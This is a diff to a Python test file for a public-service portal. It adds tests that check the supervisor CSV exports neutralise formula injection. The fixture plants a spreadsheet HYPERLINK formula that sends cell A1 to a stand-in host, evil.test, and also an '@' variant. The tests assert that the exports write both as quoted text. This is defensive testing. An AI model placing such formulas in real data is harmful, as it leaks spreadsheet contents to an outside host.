@@ -6,10 +6,12 @@ import io
 from datetime import UTC
 
 import pytest
+from sqlalchemy import select
 
 from portal.db import db
 from portal.domain.alerts import sweep
 from portal.domain.clock import WorkCalendar
+from portal.models import Agency, Service
 from tests.factories import at
 from tests.pages import text_of
 from tests.tracking_data import build_october
@@ -145,3 +147,33 @@ def test_the_public_performance_page_shows_counts_and_no_personal_data(app, clie
     assert stats == ["4", "75.0%", "1.5"]
     row = next(r for r in page.select("tbody tr") if "无犯罪记录证明" in r.get_text())
     assert [td.get_text(strip=True) for td in row.select("td")][:3] == ["2", "50.0%", "3.0"]
+
+
+FORMULA = '=HYPERLINK("http://evil.test/?x="&A1,"点击")'
+
+
+@pytest.fixture
+def formula_names(app, october):
+    """A service and an agency whose Chinese names look like formulas, as a
+    careless or hostile catalog edit could make them."""
+    with app.app_context():
+        db.session.scalar(select(Service).where(Service.code == "psb-no-record")).name_zh = FORMULA
+        db.session.scalar(select(Agency).where(Agency.code == "cs-psb")).name_zh = "@" + FORMULA[1:]
+        db.session.commit()
+    return october
+
+
+@pytest.mark.parametrize(
+    "export, key, column, expected",
+    [
+        ("services", "psb-no-record", "service_zh", "'" + FORMULA),
+        ("agencies", "cs-psb", "agency_zh", "'@" + FORMULA[1:]),
+        ("cases", "psb-no-record", "service_zh", "'" + FORMULA),
+    ],
+)
+def test_every_export_writes_formula_looking_text_as_text(client, login_as, formula_names, export, key, column, expected):
+    login_as("supervisor")
+    header, *rows = _csv(client.get(f"/supervisor/dashboard/{export}.csv?{OCTOBER}"))
+    match = 1 if export == "cases" else 0  # cases: the service code is the second column
+    cells = [dict(zip(header, r, strict=True))[column] for r in rows if r[match] == key]
+    assert cells and set(cells) == {expected}
